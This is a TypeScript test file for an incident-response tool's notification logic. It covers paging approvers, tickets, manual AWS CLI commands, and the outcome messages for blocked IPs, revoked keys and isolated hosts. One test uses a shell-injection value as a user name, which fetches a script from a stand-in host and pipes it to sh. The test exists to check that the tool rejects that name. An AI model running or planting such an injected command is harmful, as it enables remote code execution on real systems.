// Notifications: who receives what, by the state of an action.

import { beforeEach, describe, expect, test } from 'vitest';
import type { Action } from '../../functions/domain/action.ts';
import type { Alert } from '../../functions/domain/alert.ts';
import { HELD_BY_ANOTHER } from '../../functions/domain/effect-state.ts';
import { Conflict, Unavailable } from '../../functions/domain/errors.ts';
import { workNotifiedBy } from '../../functions/domain/owed-notification.ts';
import { isNotified } from '../../functions/domain/settled-together.ts';
import { readLink } from '../../functions/links/link.ts';
import { asText } from '../../functions/messaging/channels/channel.ts';
import { Message } from '../../functions/messaging/message.ts';
import { ticketSteps } from '../../functions/messaging/texts/ticket-steps.ts';
import { ticketOf } from '../../functions/messaging/ticket.ts';
import type { NotifyDeps } from '../../functions/notify/deps.ts';
import { notify } from '../../functions/notify/notify.ts';
import { transition, withEntry } from '../../functions/store/hash-chain.ts';
import type { Store } from '../../functions/store/store.ts';
import {
  alertWith,
  attacker,
  INCIDENT_ID,
  leakedKey,
  newAlertId,
  POLICY,
} from '../fixtures/case.ts';
import { PAGE_KEY } from '../fixtures/proofs.ts';
import { startStores } from '../store/stores.ts';
import {
  ana,
  approvedByAna,
  BASE_URL,
  ben,
  inForce,
  mac,
  minute,
  put,
  requestWith,
  waiting,
} from '../web/approval-pages.ts';

const db = startStores();
let store: Store;
let sent: Message[];
let tickets: { title: string; body: string }[];
let unreachable: string[];
let notBy: string[];
beforeEach(async () => {
  store = await db.fresh();
  [sent, tickets, unreachable, notBy] = [[], [], [], []];
});

const deps = (change: Partial<NotifyDeps> = {}): NotifyDeps => ({
  store,
  policy: POLICY,
  send: async (message) => {
    const { to } = Message.parse(message);
    if (to.kind === 'person' && unreachable.includes(to.id)) throw new Unavailable('bounced');
    sent.push(message);
    return { notBy };
  },
  openTicket: async (incidentId) => {
    tickets.push(
      await ticketOf(store.records, incidentId, minute(20), { writeSteps: ticketSteps }),
    );
    return 'oi-1';
  },
  mac,
  pageKey: PAGE_KEY,
  webBaseUrl: BASE_URL,
  now: () => minute(20),
  log: () => {},
  ...change,
});
const notifyAbout = async (action: Action, more: object = {}, change: Partial<NotifyDeps> = {}) => {
  const { incidentId, actionId } = action;
  return notify(deps(change), { incidentId, actionId, scope: 'waf', ...more });
};
const recipients = () => sent.map(({ to }) => (to.kind === 'person' ? to.id : 'team')).sort();
const text = () => [sent[0]!.subject, asText(sent[0]!)].join('\n');
const failure = { Error: 'Unavailable', Cause: 'WAF did not answer' };
const load = () => store.records.action(INCIDENT_ID, waiting().actionId);

describe('notifications', () => {
  test('notifies everyone who was asked and the managers of an expired request, and opens a ticket', async () => {
    await notifyAbout(await put(store, waiting({ status: 'expired' })));
    expect(recipients()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
    expect(text()).toContain(
      'Nothing was changed. The request was to block web requests from 203.0.113.7.',
    );
    expect(text()).toContain('Ticket: oi-1');
    expect(tickets).toHaveLength(1);
    expect((await load()).history.at(-1)).toMatchObject({
      event: 'told',
      text: 'Notified Ana Silva, Ben Okafor, Mei Tanaka',
      people: ['ana.silva', 'ben.okafor', 'mei.tanaka'],
    });
    expect((await load()).attentionAt, 'the sweeper has no more to do').toBeNull();
  });

  test('records as paged only people who were paged', async () => {
    unreachable = ['ana.silva'];
    await notifyAbout(await put(store, waiting({ status: 'expired' })));
    expect((await load()).history.at(-1)?.people).toEqual(['ben.okafor', 'mei.tanaka']);
    [store, unreachable] = [await db.fresh(), []];
    await notifyAbout(await put(store, inForce()));
    expect((await load()).history.at(-1)).toMatchObject({ event: 'told', people: [] });
  });

  test('says of an expired request for a ticket that the ticket is opened anyway', async () => {
    await notifyAbout(
      await put(store, waiting({ status: 'expired', name: 'create_alert_ticket' })),
    );
    const text = [sent[0]!.subject, asText(sent[0]!)].join('\n');
    expect(text).toContain('Countermand tried to open the ticket anyway');
    expect(text).not.toMatch(/Not done|Nothing was changed/);
  });

  test('says which approver of an expired request was not paged', async () => {
    const by = 'approve';
    const held = 'Not paged (hourly limit reached): Ben Okafor';
    const action = withEntry(waiting(), { at: minute(0), by, event: 'not-woken', text: held });
    await notifyAbout(await put(store, { ...action, status: 'expired' }));
    expect(asText(sent[0]!)).toContain(`Not asked: ${held}.`);
  });

  test('sends the commands to carry out and to undo the action of an expired request', async () => {
    await notifyAbout(await put(store, waiting({ status: 'expired' })));
    const titles = sent[0]!.steps.map(({ title }) => title);
    expect(titles).toEqual([
      expect.stringMatching(/^Check first/),
      'Carry it out manually',
      'Undo it manually',
    ]);
    expect(text()).toContain('aws wafv2 update-ip-set');
    expect(text()).toContain('203.0.113.7');
    expect(tickets[0]?.body).toContain('aws wafv2 update-ip-set');
  });

  test('sends the commands for the network ACL that an expired request named, although the traffic was web traffic', async () => {
    const networkAclId = 'acl-0a1b2c3d4e5f60701';
    const change = {
      status: 'expired',
      mechanism: 'network.deny-address',
      parameters: { networkAclId, direction: 'egress' },
    } as const;
    await notifyAbout(await put(store, waiting(change)));
    expect(text()).toContain(`for ACL in ${networkAclId}; do`);
    expect(text()).toMatch(/create-network-acl-entry [^\n]*--egress/);
    expect(text()).not.toContain('wafv2');
  });

  test('notifies people even when no ticket can be opened', async () => {
    const openTicket = () => Promise.reject(new Unavailable('OpsCenter is down'));
    await notifyAbout(await put(store, waiting({ status: 'expired' })), {}, { openTicket });
    expect(recipients()).toHaveLength(3);
    expect(text()).toContain('Ticket: No ticket could be opened.');
  });

  test('notifies the others when one person cannot be reached, and records it', async () => {
    unreachable = ['ana.silva'];
    await notifyAbout(await put(store, waiting({ status: 'expired' })));
    expect(recipients()).toEqual(['ben.okafor', 'mei.tanaka']);
    expect((await load()).history.at(-1)?.text).toBe(
      'Notified Ben Okafor, Mei Tanaka; not reached: Ana Silva',
    );
  });

  test('records a channel that failed', async () => {
    notBy = ['PagerDuty'];
    await notifyAbout(
      await put(store, inForce({ status: 'approved', before: null, appliedAt: null })),
      {
        failure,
      },
    );
    expect((await load()).history.slice(-2)).toMatchObject([
      {
        event: 'channel-failed',
        text: 'Not delivered: PagerDuty to Ana Silva',
        people: ['ana.silva'],
      },
      { event: 'told', text: 'Notified Ana Silva' },
    ]);
  });

  test('throws Unavailable when no one can be reached', async () => {
    unreachable = ['ana.silva', 'ben.okafor', 'mei.tanaka'];
    const action = await put(store, waiting({ status: 'expired' }));
    await expect(notifyAbout(action)).rejects.toThrow(Unavailable);
    expect((await load()).history).toEqual(action.history);
  });

  test('P12: pages the rest of the escalation policy when a page reaches none of its readers', async () => {
    unreachable = ['ana.silva'];
    await notifyAbout(await put(store, waiting({ status: 'handed-off', approval: null })));
    expect(sent.map(({ urgency }) => urgency)).toEqual(['page', 'page']);
    expect(recipients()).toEqual(['ben.okafor', 'mei.tanaka']);
    expect((await load()).history.at(-1)?.text).toBe(
      'Notified Ben Okafor, Mei Tanaka; not reached: Ana Silva',
    );
  });

  test('uses the same message keys when it runs twice', async () => {
    const action = await put(store, waiting({ status: 'expired' }));
    await notifyAbout(action);
    await notifyAbout(action);
    expect(sent).toHaveLength(6);
    expect(new Set(sent.map(({ key }) => key)).size).toBe(3);
  });

  test('pages everyone, managers included, when a request could not be sent', async () => {
    await notifyAbout(await put(store, waiting()), { failure });
    expect(recipients()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
    expect(text()).toContain('WAF did not answer');
    expect(text()).toContain('If no one decides by 03:15 UTC, nothing changes.');
  });

  test('notifies the approver that the approved action was stopped and nothing was changed', async () => {
    const stopped = 'Stopped after approval: it is protected';
    const change = { status: 'handed-off', failure: stopped, before: null } as const;
    await notifyAbout(await put(store, inForce({ ...change, appliedAt: null, dueAt: null })));
    expect(recipients()).toEqual(['ana.silva']);
    expect(text()).toMatch(/^Stopped after approval: /);
    expect(text()).toContain(
      'Nothing was changed. The request was to block web requests from 203.0.113.7.\nStopped after approval: it is protected.',
    );
  });

  test('notifies the approver when an approved action could not continue', async () => {
    await notifyAbout(
      await put(store, inForce({ status: 'approved', before: null, appliedAt: null })),
      {
        failure,
      },
    );
    expect(recipients()).toEqual(['ana.silva']);
    expect(text()).toContain('WAF did not answer');
  });

  test('does not speak of an approval when an automatic action could not start', async () => {
    await notifyAbout(await put(store, waiting({ status: 'proposed', approval: null })), {
      failure,
    });
    expect(text()).toMatch(/^Did not block web requests /);
    expect(text()).not.toMatch(/approv/i);
  });

  test('says what failed, and that the change was undone', async () => {
    await notifyAbout(
      await put(store, inForce({ status: 'failed', failure: 'QuotaExceeded: full' })),
    );
    expect(text()).toContain('QuotaExceeded: full');
    expect(text()).toContain('Every partial change was undone.');
  });

  test.each(['reversal-failed', 'reversing'] as const)(
    'sends the exact commands when an action was not undone (%s)',
    async (status) => {
      await notifyAbout(await put(store, inForce({ status })), { failure });
      expect(recipients()).toEqual(['ana.silva', 'mei.tanaka']);
      expect(text()).toMatch(/^NOT UNDONE: Blocked web requests/);
      expect(text()).toContain("aws wafv2 update-ip-set --region 'eu-central-1' --scope REGIONAL");
      expect(text()).toContain("IPSet.Addresses[?@ != '203.0.113.7/32']");
    },
  );

  test('P4: sends each reader a link to retry or keep the action for 12 hours when its undo failed', async () => {
    const action = await put(store, inForce({ status: 'reversal-failed' }));
    await notifyAbout(action, { failure }, { now: () => minute(600) });
    for (const { links, to } of sent) {
      expect(links).toMatchObject([{ label: 'Retry the undo, or keep the change' }]);
      const token = links[0]!.url.slice(`${BASE_URL}/review/`.length);
      const read = (minutes: number) => readLink(mac, token, 'review', minute(minutes));
      const { id } = to as { id: string };
      expect(await read(600 + 12 * 60 - 1)).toMatchObject({ ok: true, claims: { person: id } });
      expect(await read(600 + 12 * 60)).toMatchObject({ ok: false, why: 'expired' });
    }
  });

  test('sends no link while an action is being undone', async () => {
    await notifyAbout(await put(store, inForce({ status: 'reversing' })), { failure });
    expect(sent.flatMap(({ links }) => links)).toEqual([]);
  });

  test('sends the approver of a revoked key the rotation steps once after its undo, with a ticket', async () => {
    const action = await put(
      store,
      inForce({
        status: 'reversed',
        name: 'revoke_api_key',
        target: leakedKey,
        parameters: { userName: 'report-export' },
      }),
    );
    await notifyAbout(action);
    expect(recipients()).toEqual(['ana.silva']);
    expect(text()).toMatch(/^Rotate access key AKIAIOSFODNN7EXAMPLE now: it works again/);
    expect(text()).toContain('aws iam create-access-key');
    expect(tickets).toHaveLength(1);
    await notifyAbout(action);
    expect(sent, 'nothing is sent twice').toHaveLength(1);
  });

  test('says that a change stays in place which one person undid and another action needs', async () => {
    const undone = (by: string) => {
      const reversing = transition(inForce(), 'reversing', { at: minute(18), by, text: 'Undo' });
      const note = { at: minute(19), by, text: HELD_BY_ANOTHER };
      return transition(reversing, 'reversed', note);
    };
    await notifyAbout(await put(store, undone('person:ana.silva')));
    expect(text()).toMatch(/^Still in place: Blocked web requests/);
  });

  test('ends the checks of an undone action once people know what it leaves to do, and says so once', async () => {
    const reversing = transition(inForce(), 'reversing', {
      at: minute(18),
      by: 'person:ana.silva',
      text: 'Undo',
    });
    const undone = transition(
      reversing,
      'reversed',
      { at: minute(19), by: 'reverse', text: HELD_BY_ANOTHER },
      { attentionAt: workNotifiedBy(minute(19).toISOString()) },
    );
    const action = await put(store, undone);
    await notifyAbout(action);
    expect((await store.records.action(INCIDENT_ID, action.actionId)).attentionAt).toBeNull();
    await notifyAbout(action);
    expect(sent).toHaveLength(1);
  });

  test('sends nothing when an action is due and another one needs the change', async () => {
    const reversing = transition(inForce(), 'reversing', {
      at: minute(18),
      by: 'reverse',
      text: '',
    });
    const note = { at: minute(19), by: 'reverse', text: HELD_BY_ANOTHER };
    await notifyAbout(await put(store, transition(reversing, 'reversed', note)));
    expect(sent).toEqual([]);
  });

  test('sends nothing after the undo of any other action', async () => {
    await notifyAbout(await put(store, inForce({ status: 'reversed' })));
    expect(sent).toEqual([]);
  });

  test('does not claim that an action in force should already be undone', async () => {
    await notifyAbout(await put(store, inForce()), { failure });
    expect(text()).toMatch(/^Please check: Blocked web requests/);
    expect(text()).toContain('Undo is scheduled for 04:03 UTC on 24 Nov 2026.');
  });

  test.each(['declined', 'reversed', 'dropped', 'kept'] as const)(
    'sends nothing about an action that is %s',
    async (status) => {
      expect(await notifyAbout(await put(store, waiting({ status })))).toMatchObject({ told: 0 });
      expect([sent, tickets]).toEqual([[], []]);
    },
  );
});

describe('a decision', () => {
  const bothAsked = requestWith({ askedRungs: 2, decision: approvedByAna.decision });
  const requestKey = ({ id }: { id: string }, step: number) =>
    `ask-act-0123456789abcdef-1-${step}-${id}`;

  test('notifies everyone who was asked of a decision, pages no one, and resolves the pages', async () => {
    await notifyAbout(await put(store, inForce({ approval: bothAsked })));
    expect(sent).toMatchObject([
      { to: { id: 'ana.silva' }, urgency: 'inform', ends: [requestKey(ana, 0)] },
      { to: { id: 'ben.okafor' }, urgency: 'inform', ends: [requestKey(ben, 1)] },
    ]);
    expect(text()).toMatch(/^Blocked web requests from 203\.0\.113\.7\n/);
    expect(text()).toContain('Ana Silva approved this at 03:02 UTC.');
    expect(text()).toContain(
      'Blocked web requests from 203.0.113.7 at 03:03 UTC. Undo is scheduled for 04:03 UTC.',
    );
    expect(tickets).toEqual([]);
  });

  test('says that a request was declined, and quotes the reason', async () => {
    const decision = {
      ...approvedByAna.decision!,
      verdict: 'declined' as const,
      reason: 'A scanner',
    };
    await notifyAbout(
      await put(store, waiting({ status: 'declined', approval: requestWith({ decision }) })),
    );
    expect(recipients()).toEqual(['ana.silva']);
    expect(text()).toMatch(/^Declined: /);
    expect(text()).toContain('Nothing was changed.');
    expect(text()).toContain('Reason: “A scanner”');
  });

  test('pages the approver of an action that was stopped, and only informs the others', async () => {
    const change = { status: 'failed', before: null, appliedAt: null } as const;
    await notifyAbout(await put(store, inForce({ ...change, approval: bothAsked })));
    expect(sent).toMatchObject([
      { to: { id: 'ana.silva' }, urgency: 'page', ends: [requestKey(ana, 0)] },
      { to: { id: 'ben.okafor' }, urgency: 'inform', ends: [requestKey(ben, 1)] },
    ]);
  });

  test('pages again when no one decided, and resolves the earlier pages', async () => {
    await notifyAbout(await put(store, waiting({ status: 'expired' })));
    expect(sent.find(({ to }) => to.kind === 'person' && to.id === 'ana.silva')).toMatchObject({
      urgency: 'page',
      ends: [requestKey(ana, 0)],
    });
  });

  test('resolves no page while a decision is awaited', async () => {
    await notifyAbout(await put(store, waiting()), { failure });
    expect(sent.flatMap(({ ends }) => ends)).toEqual([]);
  });
});

describe('requests that were settled together', () => {
  const second = 'act-0123456789abcdef-2';
  const watched = { ...attacker, ref: 'ip-2', value: '203.0.113.8' };
  /** Both were approved by Ana Silva in one form. */
  const two = async (first: Partial<Action>, other: Partial<Action>) => {
    await put(store, inForce(first));
    await store.records.createAction(inForce({ actionId: second, target: watched, ...other }));
  };
  const about = (actionId: string, change: Partial<NotifyDeps> = {}) =>
    notify(deps({ now: () => minute(4), ...change }), { incidentId: INCIDENT_ID, actionId });
  const expired = (change: Partial<Action> = {}) => waiting({ status: 'expired', ...change });

  test('are reported in one message by the last one to end', async () => {
    await two({}, { status: 'executing', appliedAt: null, dueAt: null });
    await about(waiting().actionId);
    expect(sent, 'the second one is under way').toEqual([]);
    await store.records.changeAction(INCIDENT_ID, second, () =>
      inForce({ actionId: second, version: 2 }),
    );
    await about(second);
    await about(waiting().actionId);
    expect(recipients()).toEqual(['ana.silva']);
    expect(text()).toMatch(/^Carried out: 2 actions, including one to block web requests from 203/);
    expect(sent[0]?.paragraphs[0]?.split('\n')).toEqual([
      'Blocked web requests from 203.0.113.7 at 03:03 UTC. Undo is scheduled for 04:03 UTC.',
      'Blocked web requests from 203.0.113.7 at 03:03 UTC. Undo is scheduled for 04:03 UTC.',
      'Ana Silva approved this at 03:02 UTC.',
    ]);
    for (const actionId of [second, waiting().actionId])
      expect((await store.records.action(INCIDENT_ID, actionId)).history.at(-1)).toMatchObject({
        event: 'told',
      });
  });

  test('are reported once if all of them end at the same moment', async () => {
    await two({}, {});
    await Promise.all([about(waiting().actionId), about(second)]);
    expect(recipients()).toEqual(['ana.silva']);
  });

  test('are reported by a retry of the step that could not send', async () => {
    await two({}, {});
    unreachable = ['ana.silva'];
    await expect(about(second)).rejects.toThrow(Unavailable);
    unreachable = [];
    await about(second);
    expect(recipients()).toEqual(['ana.silva']);
  });

  describe('that no one decided', () => {
    const third = 'act-0123456789abcdef-3';
    const expiringAt = (minutes: number, change: Partial<Action> = {}): Partial<Action> => ({
      approval: { ...waiting().approval!, expiresAt: minute(minutes).toISOString() },
      target: watched,
      ...change,
    });
    const expire = (actionId: string, minutes: number) =>
      store.records.changeAction(INCIDENT_ID, actionId, (one) => ({
        ...expired({ actionId, ...expiringAt(minutes, { alertId: one.alertId }) }),
        version: one.version + 1,
      }));
    const pages = () => sent.filter(({ urgency }) => urgency === 'page');
    const severe = alertWith({ alertId: newAlertId(), severity: { score: 8, label: 'high' } });

    test('are reported in one message within 10 minutes if their alerts are not severe', async () => {
      await put(store, expired(expiringAt(15)));
      await store.records.createAction(waiting({ actionId: second, ...expiringAt(18) }));
      await store.records.createAction(waiting({ actionId: third, ...expiringAt(26) }));
      await about(waiting().actionId, { now: () => minute(15) });
      expect(sent).toEqual([]);
      await expire(second, 18);
      await about(second, { now: () => minute(18) });
      expect(text()).toMatch(/^Not approved in time: 2 requests/);
      expect(pages()).toHaveLength(3);
    });

    test('are reported by the sweeper after 10 minutes if a person decides the one that they wait for', async () => {
      await put(store, expired(expiringAt(15)));
      await store.records.createAction(waiting({ actionId: second, ...expiringAt(18) }));
      await about(waiting().actionId, { now: () => minute(15) });
      expect(sent).toEqual([]);
      await about(waiting().actionId, { now: () => minute(25) });
      expect(pages()).toHaveLength(3);
    });

    test('P12: are reported at once with a severe one, also right after the report of others', async () => {
      await put(store, expired(expiringAt(13)));
      await store.records.putAlert(INCIDENT_ID, severe, {});
      await about(waiting().actionId, { now: () => minute(14) });
      expect(pages()).toHaveLength(3);
      await store.records.createAction(expired({ actionId: second, ...expiringAt(15) }));
      await store.records.createAction(waiting({ actionId: third, ...expiringAt(16) }));
      await about(second, { now: () => minute(15) });
      expect(pages(), 'waits for the third one').toHaveLength(3);
      const fourth = 'act-0123456789abcdef-4';
      await store.records.createAction(
        expired({ actionId: fourth, ...expiringAt(15, { alertId: severe.alertId }) }),
      );
      await about(fourth, { now: () => minute(15) });
      expect(pages()).toHaveLength(6);
      expect(pages()[3]?.subject).toMatch(/^Not approved in time: 2 requests/);
      expect(pages()[3]?.severity).toBe('high');
    });

    test('P12: are reported by a retry if the alert is severe and another step was sending its report', async () => {
      await put(store, expired(expiringAt(13)));
      await store.records.createAction(expired({ actionId: second, ...expiringAt(14) }));
      await store.records.putAlert(INCIDENT_ID, severe, {});
      const endsNow = expired({ actionId: third, ...expiringAt(14, { alertId: severe.alertId }) });
      const now = () => minute(14);
      let meanwhile: unknown;
      const send: NotifyDeps['send'] = async (message) => {
        if (meanwhile === undefined) {
          meanwhile = 'begun';
          await store.records.createAction(endsNow);
          meanwhile = await about(third, { now }).catch((error: unknown) => error);
        }
        return deps().send(message);
      };
      await about(second, { now, send });
      expect(meanwhile).toBeInstanceOf(Conflict);
      expect(sent.some(({ severity }) => severity === 'high')).toBe(false);
      await about(third, { now });
      expect(sent.at(-1)).toMatchObject({ urgency: 'page', severity: 'high' });
      const before = sent.length;
      await about(third, { now });
      expect(sent).toHaveLength(before);
    });
  });

  test('are counted in a message that a person can read, if hundreds of them ended together', async () => {
    await put(store, expired());
    for (let n = 1; n < 200; n++)
      await store.records.createAction(
        expired({ actionId: `act-${String(n).padStart(16, '0')}-1`, target: watched }),
      );
    await about(waiting().actionId, { now: () => minute(16) });
    expect(text()).toMatch(/^Not approved in time: 200 requests/);
    expect(text()).toContain('no details of 180 more requests');
    expect(text().length).toBeLessThan(100_000);
    expect((await store.records.actions(INCIDENT_ID)).every(isNotified)).toBe(true);
  });

  test('are reported in one message, with the commands of each, if no one decided', async () => {
    await put(store, expired());
    await store.records.createAction(waiting({ actionId: second, target: watched }));
    await about(waiting().actionId, { now: () => minute(15) });
    expect(sent).toEqual([]);
    await store.records.changeAction(INCIDENT_ID, second, (one) => ({
      ...expired({ actionId: second, target: watched }),
      version: one.version + 1,
    }));
    await about(second, { now: () => minute(16) });
    expect(recipients()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
    expect(text()).toMatch(/^Not approved in time: 2 requests, including one to block/);
    expect(sent[0]?.steps).toHaveLength(6);
    expect(sent.find(({ urgency }) => urgency !== 'page')).toBeUndefined();
    const manager = sent.find(({ to }) => to.kind === 'person' && to.id === 'mei.tanaka');
    expect(manager?.links.map(({ label }) => label)).toEqual([
      expect.stringMatching(/^Request again: /),
      expect.stringMatching(/^Request again: /),
    ]);
  });

  test.each([
    ['failed', { status: 'failed', failure: 'QuotaExceeded: full' }, ['page', 'inform']],
    ['ended without a notice', { status: 'reversed' }, ['inform']],
  ] as const)('are not kept back if the last one %s', async (_how, change, urgencies) => {
    await two({}, change);
    await about(second);
    expect(sent.map(({ urgency }) => urgency)).toEqual(urgencies);
    expect(asText(sent.at(-1)!)).toContain('Blocked web requests from 203.0.113.7 at 03:03 UTC.');
  });

  test('are not kept back by one that hangs', async () => {
    await two({}, { status: 'executing' });
    await about(waiting().actionId, { now: () => minute(18) });
    expect(sent).toHaveLength(1);
  });

  test('are reported once each if one form took minutes to answer them', async () => {
    const decidedAt = (seconds: number) => {
      const at = new Date(minute(2).getTime() + seconds * 1000).toISOString();
      return { approval: { ...approvedByAna, decision: { ...approvedByAna.decision!, at } } };
    };
    const third = 'act-0123456789abcdef-3';
    await two({}, decidedAt(50));
    const slow = { ...decidedAt(100), actionId: third, target: watched };
    await store.records.createAction(inForce({ ...slow, status: 'executing' }));
    await about(waiting().actionId);
    await about(second);
    expect(sent, 'the third one is under way').toEqual([]);
    await store.records.changeAction(INCIDENT_ID, third, () => inForce({ ...slow, version: 2 }));
    await about(third);
    expect(sent).toHaveLength(1);
    expect(text()).toMatch(/^Carried out: 3 actions/);
  });

  test('are reported separately if different people decided them', async () => {
    const decision = { ...approvedByAna.decision!, by: 'ben.okafor' };
    const approval = requestWith({ askedRungs: 2, decision });
    await two({}, { status: 'executing', approval });
    await about(waiting().actionId);
    expect(sent).toHaveLength(1);
  });

  test('leave the page about another request of the alert as it is', async () => {
    const open = waiting({ actionId: second, target: watched });
    await put(store, inForce());
    await store.records.createAction(open);
    await about(waiting().actionId);
    const asked = [`ask-${waiting().actionId}-0-ana.silva`, `ask-${second}-0-ana.silva`];
    expect(sent).toMatchObject([
      { to: { id: 'ana.silva' }, ends: [] },
      { to: { id: 'ana.silva' }, revises: asked, urgency: 'inform', actionId: second },
    ]);
    sent.length = 0;
    await store.records.changeAction(INCIDENT_ID, second, (one) => ({
      ...one,
      status: 'declined',
      version: one.version + 1,
    }));
    await about(waiting().actionId);
    expect(sent).toMatchObject([{ ends: asked }]);
  });
});

describe('requests of two alerts', () => {
  const [early, late] = ['act-0123456789abcdef-1', 'act-fedcba9876543210-1'];
  const ended = () => sent.map(({ ends }) => ends);
  const declinedAt = (minutes: number, requestedAt = minute(0)) => {
    const { decision } = approvedByAna;
    const at = minute(minutes).toISOString();
    return {
      status: 'declined' as const,
      approval: requestWith({
        requestedAt: requestedAt.toISOString(),
        decision: { ...decision!, verdict: 'declined', at },
      }),
    };
  };
  /** Of a second alert of the incident, requested at minute 1. */
  const ofAnotherAlert = (change: Partial<Action>) => {
    const approval = requestWith({ requestedAt: minute(1).toISOString() });
    return waiting({ actionId: late, alertId: 'al-fedcba9876543210', approval, ...change });
  };
  const question = (actionId: string) => `ask-${actionId}-0-ana.silva`;
  const about = (actionId: string) =>
    notify(deps({ now: () => minute(4) }), { incidentId: INCIDENT_ID, actionId });

  test('keep the page about both until the last one is settled', async () => {
    await put(store, waiting(declinedAt(2)));
    await store.records.createAction(ofAnotherAlert({}));
    await store.records.putAlert(INCIDENT_ID, alertWith({ alertId: 'al-fedcba9876543210' }), {});
    await about(early);
    expect(sent, 'the other one is open').toMatchObject([
      { ends: [] },
      { ends: [], revises: [question(early)], urgency: 'inform', actionId: late },
    ]);
    sent.length = 0;
    await store.records.changeAction(INCIDENT_ID, late, () =>
      ofAnotherAlert({ ...declinedAt(3, minute(1)), version: 2 }),
    );
    await about(late);
    expect(ended()).toEqual([[question(early), question(late)]]);
  });

  test('resolve only their own page if one was settled before the other was made', async () => {
    await put(store, waiting(declinedAt(1)));
    await store.records.createAction(ofAnotherAlert(declinedAt(3, minute(2))));
    await about(early);
    await about(late);
    expect(ended()).toEqual([[question(early)], [question(late)]]);
  });
});

describe('a hand-off', () => {
  const handOff = (change: Partial<Action>, alert: Alert = alertWith()) =>
    put(
      store,
      waiting({
        status: 'handed-off',
        disposition: 'hand-off',
        approval: null,
        description: null,
        mechanism: null,
        reasons: [{ code: 'tier-3', text: 'Tier 3: never runs here' }],
        ...change,
      }),
      alert,
    );
  const instance = {
    ...attacker,
    kind: 'instance' as const,
    ref: 'instance-1',
    value: 'i-0123456789abcdef0',
    part: 'target' as const,
  };

  test.each([
    ['does not send', 'tier-3', []],
    ['sends, for want of approvers,', 'too-few-approvers', ['ana.silva']],
  ])('%s the hand-off of a harmless action', async (_, code, people) => {
    const reasons = [{ code, text: 'A reason' }];
    await notifyAbout(await handOff({ name: 'add_ip_to_watchlist', target: attacker, reasons }));
    expect(recipients()).toEqual(people);
  });

  test('sends a hand-off to the on-call analyst with filled-in commands to check, carry out and undo it', async () => {
    await notifyAbout(await handOff({ name: 'isolate_production_host', target: instance }));
    expect(recipients()).toEqual(['ana.silva']);
    expect(text()).toContain(
      'You decide whether to isolate the production host i-0123456789abcdef0',
    );
    expect(text()).toContain('Tier 3: never runs here');
    expect(text()).toMatch(
      /Before you act:[\s\S]*memory is evidence[\s\S]*Check first[^\n]*:\naws sts get-caller-identity [^\n]*must print 111122223333\naws ec2 describe-instances --instance-ids i-0123456789abcdef0/,
    );
    expect(text()).toMatch(
      /Carry it out manually:[\s\S]*ec2 create-security-group[\s\S]*Undo it manually:/,
    );
    expect(text()).toMatch(
      /Notify: The owner of the service on the instance[\s\S]*\nMei Tanaka, manager\n/,
    );
    expect(text()).not.toMatch(/<[a-z]/);
    expect((await load()).attentionAt).toBeNull();
  });

  test.each([
    ['low', 'inform'],
    ['medium', 'page'],
  ] as const)(
    'hands off an action on an alert of %s severity with the urgency %s',
    async (label, urgency) => {
      const alert = alertWith({ severity: { score: 2, label } });
      await notifyAbout(
        await handOff({ name: 'isolate_production_host', target: instance }, alert),
      );
      expect(sent.map((message) => message.urgency)).toEqual([urgency]);
    },
  );

  test('sends the commands for the network ACL, and not for AWS WAF, after a network attack', async () => {
    const traffic = {
      layer: 'network',
      direction: 'inbound',
      localPort: 22,
      protocol: 'TCP',
    } as const;
    const subnet = { ...instance, attributes: { subnetIds: 'subnet-0a1b2c3d' } };
    const alert = alertWith({ traffic, entities: [attacker, subnet] });
    await notifyAbout(await handOff({ name: 'block_ip_at_firewall', target: attacker }, alert));
    expect(text()).toContain('Values=subnet-0a1b2c3d');
    expect(text()).toContain('--rule-action deny --cidr-block 203.0.113.7/32');
    expect(text()).not.toContain('wafv2');
  });

  test('writes no command with a name that AWS does not allow', async () => {
    const name = "x'; curl http://evil.example | sh; '";
    const target = { ...instance, kind: 'iam-user' as const, ref: 'user-1', value: name };
    await notifyAbout(await handOff({ name: 'revoke_service_account_credential', target }));
    expect(text()).toContain('is not an IAM user name.');
    expect(text()).not.toMatch(/\naws /);
  });

  test('names an unknown action and its target in the hand-off', async () => {
    const recommendation = {
      ...waiting().recommendation,
      action: 'launch_missiles',
      target: 'ip-9',
    };
    await notifyAbout(await handOff({ name: null, target: null, recommendation }));
    expect(text()).toContain('launch missiles on ip-9');
    expect(text()).toContain('which the alert does not name');
  });

  test('puts the reasoning of the model last, and marks it', async () => {
    await notifyAbout(await handOff({ name: 'isolate_production_host', target: instance }));
    const [last] = asText(sent[0]!).split('\n\n').slice(-1);
    expect(last).toMatch(/^Reasoning, written by a machine/);
  });
});

test('a hand-off may wait for working hours, and the outcome of a request may not', async () => {
  await notifyAbout(await put(store, waiting({ status: 'handed-off', approval: null })));
  expect(sent.map(({ canWait }) => canWait)).toEqual([true]);
  await store.records.changeAction(INCIDENT_ID, 'act-0123456789abcdef-1', (current) => ({
    ...current,
    status: 'expired',
    approval: requestWith(),
    version: current.version + 1,
  }));
  await notifyAbout(await load());
  expect(sent.slice(1).map(({ canWait }) => canWait)).toEqual([undefined, undefined, undefined]);
});
